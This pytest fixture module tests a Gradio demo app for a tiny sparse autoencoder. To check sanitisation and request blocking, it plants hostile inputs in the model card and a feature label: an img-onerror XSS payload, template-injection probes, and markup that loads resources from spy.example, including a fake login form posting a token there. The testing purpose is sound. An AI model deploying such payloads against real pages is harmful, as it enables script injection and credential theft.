"""A tiny SAE with all that may lie beside it, and the app that serves it: once for all tests."""

import os

# gradio reads these when it is imported
os.environ |= {"GRADIO_ANALYTICS_ENABLED": "False", "HF_HUB_DISABLE_TELEMETRY": "1"}

import importlib.util
import json
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
import torch

import hfsae
from hfsae.features import CollectArguments, write_label

if importlib.util.find_spec("gradio") is None:
    pytest.skip("the app needs gradio: pip install 'hfsae[demo]'", allow_module_level=True)

from hfsae.demo import Choice, Subject, open_subject
from hfsae.demo.actions import Endpoint, docstring

ROOT = Path(__file__).parent.parent.parent
D_SAE = 48
ARGUMENTS = {  # of each action, that make sense
    "about": {},
    "card": {},
    "check_ablation": {"prompt": "the c"},
    "compare_prompts": {"first": "the cat", "second": "a dog"},
    "compare_saes": {},
    "feature": {"latent": 3},
    "find_on_map": {"query": "e"},
    "health": {},
    "inspect": {"prompt": "the cat", "token": 2},
    "measure": {"text": "the cat sat"},
    "next_tokens": {"prompt": "the c"},
    "random_latent": {},
    "save_label": {"latent": 11, "label": ""},
    "search": {"query": "e"},
    "side_by_side": {"text": "the cat sat"},
    "steer": {"prompt": "the", "latents": "3:1", "max_new_tokens": 3},
    "suggest_strength": {"prompt": "the", "latents": "3:1,4:1"},
    "try_text": {"latent": 3, "text": "the cat"},
    "why": {"prompt": "the c", "contrast": "o"},
}
# What the address says has been put into the fields: from here on nothing typed is lost to it.
FILLED = "() => document.querySelector('#link textarea, #link input')?.value"
AXE = """async () => {
    const {violations} = await axe.run(document, {resultTypes: ['violations']});
    return violations.filter(v => ['serious', 'critical'].includes(v.impact))
        .map(v => [v.id, v.nodes.length, v.nodes[0].html.slice(0, 200), v.nodes[0].failureSummary]);
}"""
# What Gradio draws anew fades in: colours half way there are nobody's to read.
STILL = """() => !document.querySelector(".pending, .generating") && document.getAnimations().every(
    (one) => one.playState !== "running" || one.effect.getComputedTiming().endTime === Infinity)"""
WAIT = 60_000  # ms, the most that a loaded machine is given
HOSTILE = "<img src=x onerror=\"document.title='hit'\"> ${document.title='hit'} {{7*7}} `\\"
SPIES = """\
<video src="https://spy.example/v" autoplay></video><audio src="https://spy.example/a"></audio>
<form action="https://spy.example/login"><input name="token"><button>Log in</button></form>
<div style="position:fixed;inset:0;z-index:9999;background:red">covered</div>
<style>@import url("https://spy.example/s"); body { display: none }</style>
"""
CARD = f"---\nlicense: mit\n---\n\n# A tiny SAE\n\n{HOSTILE} ![spy](https://spy.example/a.png)\n"
CARD += f"\n{SPIES}\n| a | b |\n| --- | ---: |\n| `x` | 1 |\n"
WORDS = "the cat sat on the mat and the dog ran to the sea while rain fell on all of them "
TEXTS = [WORDS * 3, WORDS[::-1] * 3, "0123456789 " * 30]


@pytest.fixture(scope="session")
def sae_folder(tmp_path_factory, make_tiny_lm, tiny_tokenizer) -> Path:
    """A trained SAE's folder, as `hfsae train` writes it, with labels; its model is beside it."""
    home = tmp_path_factory.mktemp("demo")
    lm = make_tiny_lm("llama")
    lm.save_pretrained(home / "lm")
    tiny_tokenizer.save_pretrained(home / "lm")
    template = "{% for m in messages %}<bos>user: {{ m['content'] }}{% endfor %}"
    (home / "lm" / "chat_template.jinja").write_text(template)
    config = hfsae.JumpReLUSAEConfig(
        d_in=16,
        d_sae=D_SAE,
        site="layers.1",
        model_name=str(home / "lm"),
        initial_threshold=0.5,
        bos="row",
    )
    with torch.random.fork_rng(devices=[]):
        torch.manual_seed(3)
        sae = hfsae.JumpReLUSAE(config)
    folder = home / "tiny-sae"
    sae.save_pretrained(folder)
    text = hfsae.TextArguments(dataset=TEXTS, context_size=32, held_out_fraction=0.0)
    rows = hfsae.PackedRows(tiny_tokenizer, text, "train", rows=4)
    collected = CollectArguments(top=3, quantiles=2, per_quantile=1, reservoir=8, window=6)
    hfsae.collect(lm, sae, rows, collected, tokenizer=tiny_tokenizer).save(folder)
    rows = hfsae.PackedRows(tiny_tokenizer, text, "train", rows=4)
    measured = hfsae.evaluate(lm, sae, rows).to_dict()
    (folder / "evaluation.json").write_text(json.dumps(measured))
    (folder / "README.md").write_text(CARD)
    write_label(folder, 0, HOSTILE)
    return folder


@pytest.fixture(scope="session")
def subject(sae_folder) -> Subject:
    return open_subject(Choice(str(sae_folder)))


@pytest.fixture(scope="session")
def serve(tmp_path_factory) -> Iterator[Callable[..., str]]:
    """serve(FOLDER) -> the address of its app, which has endpoints more, and serve("demo", FOLDER,
    OPTION, ...) -> that of the command's app; see serve.py. One process has them all: its imports
    take five seconds."""
    log = tmp_path_factory.mktemp("apps") / "log"
    argv = [sys.executable, "-m", "tests.demo.serve"]
    with running(argv, log, stdin=subprocess.PIPE, text=True) as process:

        def start(*words: str | Path) -> str:
            port = free_port()
            command = json.dumps([*map(str, words), "--port", str(port)])
            line = command if len(words) > 1 else f"{port} {words[0]}"
            process.stdin.write(f"{line}\n")
            process.stdin.flush()
            return once_it_answers(process, port, log)

        yield start


@pytest.fixture(scope="session")
def app_url(sae_folder, serve) -> str:
    return serve(sae_folder)


@pytest.fixture(scope="session")
def running_command(sae_folder, serve) -> str:
    """`hfsae demo FOLDER --mcp`; its address."""
    return serve("demo", sae_folder, "--mcp")


def free_port() -> int:
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        return free.getsockname()[1]


@contextmanager
def running(argv: list[str], log: Path, **options: Any) -> Iterator[subprocess.Popen]:
    """A process that ends with the block."""
    with log.open("w") as output:
        process = subprocess.Popen(
            argv, cwd=ROOT, stdout=output, stderr=subprocess.STDOUT, **options
        )
    try:
        yield process
    finally:
        process.terminate()
        process.communicate(timeout=20)


def once_it_answers(process: subprocess.Popen, port: int, log: Path) -> str:
    """The address of a process that listens, once it does."""
    url = f"http://127.0.0.1:{port}/"
    deadline = time.monotonic() + 300  # of a loaded machine
    while not _answers(f"{url}config"):
        if process.poll() is not None or time.monotonic() > deadline:
            raise AssertionError(f"{url} does not answer: {log.read_text()}")
        time.sleep(0.1)
    return url


def assert_ended_early(client: Any) -> None:
    """A text that would not have ended by itself has ended, and left no hook."""
    n_under_way = 1
    for _ in range(1000):
        n_under_way = client.predict(api_name="/writing")
        if not n_under_way:
            break
    assert n_under_way == 0
    assert client.predict(api_name="/hooks") == 0


def _answers(url: str) -> bool:
    try:
        urllib.request.urlopen(url, timeout=5).close()
    except OSError:
        return False
    return True


@pytest.fixture
def visit(browser, app_url) -> Iterator[Callable]:
    """`visiting` the app."""
    with visiting(browser, app_url) as visit:
        yield visit


@contextmanager
def visiting(browser, app_url: str) -> Iterator[Callable]:
    """visit(query, width=...) -> a page in a browser context of its own, as at a first visit: only
    the app's files may be in its cache, which saves a third of the time that a page takes to open.

    At the end: no script failed, no request went anywhere but to the app, and the page's policy
    refused nothing.
    """
    contexts, wrong = [], []

    def ours(request) -> None:
        if not request.url.startswith((app_url, "data:", "blob:")):
            wrong.append(request.url)

    def policy(message) -> None:
        if "Content Security Policy" in message.text:
            wrong.append(message.text)

    def visit(query: str = "", width: int = 1280):
        free = _FREE.setdefault(width, [])
        size = {"width": width, "height": 900}
        context = free.pop() if free else browser.new_context(viewport=size)
        contexts.append((free, context))
        page = context.new_page()
        kept = {"origin": app_url, "storageTypes": "cookies,local_storage"}
        context.new_cdp_session(page).send("Storage.clearDataForOrigin", kept)
        page.set_default_timeout(WAIT)
        page.on("pageerror", lambda error: wrong.append(str(error)))
        page.on("request", ours)
        page.on("console", policy)
        page.goto(f"{app_url}?{query}")
        page.wait_for_selector("#header .hf-top")
        page.wait_for_function(FILLED)
        return page

    try:
        yield visit
    finally:
        for free, context in contexts:
            context.clear_permissions()
            for page in context.pages:
                page.close()
            free.append(context)
    assert not wrong


_FREE: dict[int, list[Any]] = {}
"""by width, browser contexts that no test uses"""


@pytest.fixture(scope="session")
def axe() -> Callable[[Any], list]:
    """axe(page) -> what axe-core finds serious there; skips where it is not installed."""
    path = Path(os.environ.get("AXE_CORE", ROOT / "node_modules/axe-core"), "axe.min.js")
    if not path.is_file():
        pytest.skip("no axe-core: npm install --no-save axe-core")
    script = path.read_text(encoding="utf-8")

    def serious(page) -> list:
        page.wait_for_function(STILL)
        page.evaluate(script)
        return page.evaluate(AXE)

    return serious


def texts(page) -> list[str]:
    """The two continuations, once they are done."""
    page.wait_for_selector("text=KL from the model as it is")
    return page.locator("#steer-output .hf-text").all_inner_texts()


def unfold(page, title: str, label: str) -> None:
    """Open the accordion that has the field of this label.

    Gradio mounts the fields of an accordion when it is opened, and a frame or two later puts their
    values in, over what a script has filled them with meanwhile; nobody types so early.
    """
    page.get_by_text(title).click()
    page.get_by_label(label, exact=True).first.wait_for()
    page.evaluate(
        """() => new Promise((resolve) => {
            const after = (n) => requestAnimationFrame(n ? () => after(n - 1) : resolve);
            after(10);
        })"""
    )


KINDS = {"int": int, "float": (int, float), "str": str, "bool": bool, "dict": dict}
KINDS |= {"None": type(None)}


def assert_described(answer: dict, endpoint: Endpoint) -> None:
    """Its keys are those of the docstring, each of its type; rows of latents have their numbers."""
    *_, keys = docstring(endpoint.function)
    needed = {name for name, (_, kind) in keys.items() if "optional" not in kind}
    assert needed <= {*answer} <= {*keys}
    for name, value in answer.items():
        kind = keys[name][1].removesuffix(", optional")
        types = tuple(KINDS.get(one, list) for one in kind.split(" | "))
        assert isinstance(value, types), (name, kind, value)
        for row in value if kind == "list[Latent]" else ():
            assert {"latent", "value", "label", "auto", "source", "doubtful"} <= {*row}, name
